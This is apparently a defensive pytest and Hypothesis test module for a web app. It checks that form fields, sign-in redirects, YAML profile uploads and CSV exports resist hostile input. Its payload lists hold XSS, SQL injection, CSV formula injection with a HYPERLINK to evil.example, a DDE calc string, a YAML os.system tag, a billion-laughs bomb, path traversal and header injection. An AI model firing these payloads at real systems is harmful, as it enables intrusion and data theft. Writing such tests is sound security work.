"""Hostile input in every form field and in uploaded profiles (issue 21.3): text made to
break out of HTML, SQL, CSV or YAML is kept as typed or refused in words, never a 500,
never markup in a page, never a formula in a spreadsheet; uploads that are not profiles
are refused naming the problem. Hypothesis draws the text, derandomized so every run
tries the same cases."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

from fastapi.routing import APIRoute
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape

from advisor.interview import parse_answer, questions, start
from advisor.web import guided
from tests.conftest import HIGH_DOWN
from tests.web.conftest import PASSWORD, World, signin_token
from tests.web.test_app import upload
from tests.web.test_guided import page_form
from tests.web.test_guided import start as start_draft

HOSTILE = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' OR 1=1 --",
    "Robert'); DROP TABLE wings;--", '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r\n=1+1",
    "!!python/object/apply:os.system ['true']", "&anchor x", "*anchor", "<<: *anchor",
    "{{ 7*7 }}", "{% raw %}", "${7*7}", "\x00", "\x1b[31mred", "\u202ereversed",
    "é ü 中文 🙂", "x" * 3000, "%00", "../../etc/passwd", "a\x0bb",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
text = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30)), min_size=1,
                max_size=3).map("".join)
FUZZ = settings(max_examples=30, derandomize=True, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])


def clean(page: Any) -> None:
    """A page that is no server error and carries no markup from the input."""
    assert page.status_code < 500, page.text
    body = page.text
    assert "<script" not in body and "<img src=x" not in body and "Traceback" not in body


@FUZZ
@given(prison=text, name=text)
def test_wing_names_are_kept_as_typed_or_refused_in_words(world: World, prison: str,
                                                          name: str) -> None:
    team = world.client("delivery")
    team.get("/")
    response = team.post("/wings", {"prison": prison, "name": name})
    clean(response)
    assert response.status_code in (303, 400)
    if response.status_code == 400:
        assert re.search(r'class="error"[^>]*>[^<]+<', response.text)
        return
    wing_id = int(response.headers["location"].rsplit("/", 1)[1])
    wing = world.store.wing(wing_id)
    assert wing is not None
    assert (wing.prison, wing.name) == (" ".join(prison.split()), " ".join(name.split()))
    page = team.get(f"/wings/{wing_id}")
    clean(page)
    assert str(escape(wing.name)) in page.text


@FUZZ
@given(email=text, password=text, next_=text)
def test_sign_in_fields_never_break_the_page(world: World, email: str, password: str,
                                             next_: str) -> None:
    browser = world.client()
    token = signin_token(browser.get("/signin").text)
    response = browser.post("/signin", {"email": email, "password": password,
                                        "next": next_, "csrf": token})
    clean(response)
    assert response.status_code in (401, 429)
    assert f'value="{escape(email)}"' in response.text


def test_a_hostile_next_after_signing_in_stays_on_this_site(world: World) -> None:
    for target in ("//evil.example/", "https://evil.example/", "/\\evil.example",
                   "javascript:alert(1)", "/wings\r\nSet-Cookie: x=1"):
        browser = world.client()
        token = signin_token(browser.get("/signin").text)
        done = browser.post("/signin", {"email": "delivery@example.org",
                                        "password": PASSWORD, "next": target,
                                        "csrf": token})
        assert done.status_code == 303
        location = done.headers["location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\"))
        assert "\n" not in location and "\r" not in location
        assert "x=1" not in done.headers.get("set-cookie", "")


@FUZZ
@given(email=text, password=text, role=st.sampled_from(["delivery", "admin", "<b>", ""]))
def test_account_fields_are_kept_as_typed_or_refused_in_words(
        world: World, email: str, password: str, role: str) -> None:
    admin = world.client("admin")
    admin.get("/admin/users")
    address = f"{email}@example.org" if "@" not in email else email
    response = admin.post("/admin/users", {"email": address, "password": password + PASSWORD,
                                           "role": role, "wing": ""})
    clean(response)
    assert response.status_code in (303, 400)
    page = admin.get("/admin/users")
    clean(page)
    if response.status_code == 303:
        kept = world.store.user_by_email(address)
        assert kept is not None and kept.email == address.strip().lower()
        assert str(escape(kept.email)) in page.text
        clean(admin.get("/admin/audit"))


def _text_question() -> str:
    """A question answered in free text on the first page: who assessed the wing."""
    asked = [q for q in questions(start(None)) if q.kind == "text"
             and guided.section_of(q) == "assessed"]
    return asked[0].path


@FUZZ
@given(answer=text, note=text, said=text)
def test_answers_notes_and_voices_are_kept_as_typed_or_refused_in_words(
        world: World, answer: str, note: str, said: str) -> None:
    team = world.client("delivery")
    draft = start_draft(team, world.wing_a)
    url = f"{draft}/assessed"
    path = _text_question()
    form = page_form(team.get(url).text, {path: answer})
    form[f"evidence:{path}"] = note
    form[f"residents:{path}"] = said
    response = team.post(url, form)
    clean(response)
    assert response.status_code in (303, 400)
    row = world.store.draft(int(draft.rsplit("/", 1)[1]))
    assert row is not None
    state = json.loads(row.state)
    question = next(q for q in questions(start(None)) if q.path == path)
    if path in state["answers"]:  # saved: as the interview reads it typed
        assert state["answers"][path] == parse_answer(question, answer)
    if path in state["evidence"]:
        assert state["evidence"][path] == note.strip()
    page = team.get(url)
    clean(page)
    if isinstance(state["answers"].get(path), str) and state["answers"][path] != "unknown":
        assert f'value="{escape(state["answers"][path])}"' in page.text


# -- uploads ------------------------------------------------------------------------

def _profile_with(words: str) -> bytes:
    """High Down's profile with `words` as who assessed it and as the first role's title,
    written as YAML double-quoted strings (JSON's are)."""
    quoted = json.dumps(words, ensure_ascii=False)
    body = HIGH_DOWN.read_text(encoding="utf-8")
    body = body.replace("by: CFO evaluation, Albertson (2024)", f"by: {quoted}", 1)
    body = re.sub(r"- title: Ambassador\b", lambda _: f"- title: {quoted}", body, count=1)
    return body.encode()


@FUZZ
@given(words=text)
def test_hostile_text_in_an_uploaded_profile_never_breaks_a_page_or_a_spreadsheet(
        world: World, words: str) -> None:
    team = world.client("delivery")
    team.get(f"/wings/{world.wing_a}")
    response: Any = upload(team, world.wing_a, "wing.yaml", _profile_with(words))
    clean(response)
    assert response.status_code in (303, 400)
    if response.status_code == 400:
        assert re.search(r'id="profile-error" role="alert">[^<]+</p>', response.text)
        return
    result = response.headers["location"]
    stored = team.get(f"{result}/profile.yaml").text
    assert json.dumps(words, ensure_ascii=False) in stored  # the file as uploaded
    clean(team.get(result))
    spreadsheet_cells_are_text(team.get(f"{result}/plan.csv").text)


def spreadsheet_cells_are_text(body: str) -> set[str]:
    """Every cell of a CSV, each checked to be no formula."""
    cells = {cell for row in csv.reader(io.StringIO(body)) for cell in row}
    for cell in cells:
        assert not cell.startswith(FORMULA), cell
    return cells


def test_uploads_that_are_not_profiles_are_refused_naming_the_problem(
        world: World, tmp_path: Path) -> None:
    team = world.client("delivery")
    team.get(f"/wings/{world.wing_a}")
    pwned = tmp_path / "pwned"
    bomb = ("a: &a [x, x, x, x, x, x, x, x, x]\n"
            + "".join(f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
                      for p, c in zip("abcdefgh", "bcdefghi", strict=True)))
    cases = {
        "empty": (b"", r"^wing\.yaml: is empty$"),
        "binary": (bytes(range(256)) * 4, r"^wing\.yaml: is a binary file, not a YAML "
                                          r"profile$"),
        "a YAML bomb": (bomb.encode(), r"^wing\.yaml, line 1, at “a”: YAML anchors and aliases "
                                       r"\(&amp;name, \*name\) are not allowed$"),
        "a Python tag": (f"!!python/object/apply:os.system ['touch {pwned}']\n".encode(),
                         r"^wing\.yaml, line 1: the YAML tag &#39;tag:yaml\.org,2002:python/"
                         r"object/apply:os\.system&#39; is not allowed \(plain values "
                         r"only\)$"),
        "a list": (b"- one\n- two\n", r"^wing\.yaml, line 1: a profile is a mapping of "
                                      r"fields, not a list$"),
        "a number": (b"42\n", r"^wing\.yaml, line 1: a profile is a mapping of fields, "
                               r"not 42$"),
        "JSON of something else": (b'{"hello": "world"}',
                                   r"^wing\.yaml, line 1, at “profile_version”: "
                                   r"missing profile_version"),
        "UTF-16": ("kind: self-audit\n".encode("utf-16"), r"^wing\.yaml: is a binary file"),
    }
    before = len(world.store.results(world.wing_a))
    for what, (body, words) in cases.items():
        response: Any = upload(team, world.wing_a, "wing.yaml", body)
        assert response.status_code == 400, what
        message = re.search(r'id="profile-error" role="alert">([^<]+)</p>', response.text)
        assert message is not None, what
        assert re.search(words, message[1]), (what, message[1])
    assert not pwned.exists()
    huge: Any = upload(team, world.wing_a, "wing.yaml", b"x" * (3 * 1024 * 1024))
    assert huge.status_code == 413
    assert "more than a profile can be (1 MB)" in huge.text
    assert len(world.store.results(world.wing_a)) == before


# -- every CSV the app serves -----------------------------------------------------

def csv_routes(app: Any) -> list[str]:
    """The app's CSV downloads: routes ending .csv, and a result's plan."""
    paths = [r.path for r in app.routes if isinstance(r, APIRoute)
             and r.path.endswith(".csv") and "GET" in (r.methods or ())]
    return sorted({*paths, "/results/{result_id}/plan.csv"})


def test_every_csv_export_shows_formulas_as_text(world: World) -> None:
    team = world.client("delivery")
    team.get("/")
    leaders = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@SUM(A1)",
               "\t=1", "\r=1"]
    made = team.post("/wings", {"prison": "=HYPERLINK(\"http://evil.example\")",
                                "name": "@wing"})
    assert made.status_code == 303
    hostile_wing = int(made.headers["location"].rsplit("/", 1)[1])
    team = world.client("delivery")  # signed in afresh: the new wing is among its own
    team.get(f"/wings/{world.wing_a}")
    uploaded: Any = upload(team, world.wing_a, "wing.yaml", _profile_with(leaders[0]))
    assert uploaded.status_code == 303, uploaded.text
    result_id = int(uploaded.headers["location"].rsplit("/", 1)[1])
    wing = world.store.wing(world.wing_a)
    user = world.store.user(world.users["delivery"])
    assert wing is not None and user is not None
    data = json.loads(world.store.result(result_id).result_json)  # type: ignore[union-attr]
    actions = [a["id"] for a in data["actions"]]
    assert len(actions) >= len(leaders)
    for action, leader in zip(actions, leaders, strict=False):  # the team's own words
        world.store.track(wing, action, lead=leader.strip(), due=None, status="in-progress",
                          reason="", notes=leader, by=user)
    admin = world.client("admin")
    ids = {"wing_id": world.wing_a, "result_id": result_id}
    checked, cells = 0, set()
    for route in csv_routes(world.app):
        for wing_id in (world.wing_a, hostile_wing):
            url = route.replace("{wing_id}", str(wing_id)).replace(
                "{result_id}", str(ids["result_id"]))
            assert "{" not in url, f"{route}: give the test a value for its parameters"
            response = admin.get(url)
            if response.status_code == 404:  # a wing with no assessment has no plan
                continue
            assert response.status_code == 200, (url, response.text)
            assert response.headers["content-type"].startswith("text/csv")
            cells |= spreadsheet_cells_are_text(response.text)
            checked += 1
    assert checked >= 3  # a result's plan, the wing's plan, the portfolio
    # the hostile words are there, shown as text: the plan's lead and notes, the wing
    for leader in leaders:
        assert f"'{leader}" in cells or f"'{leader.strip()}" in cells, leader
    assert "'=HYPERLINK(\"http://evil.example\")" in cells
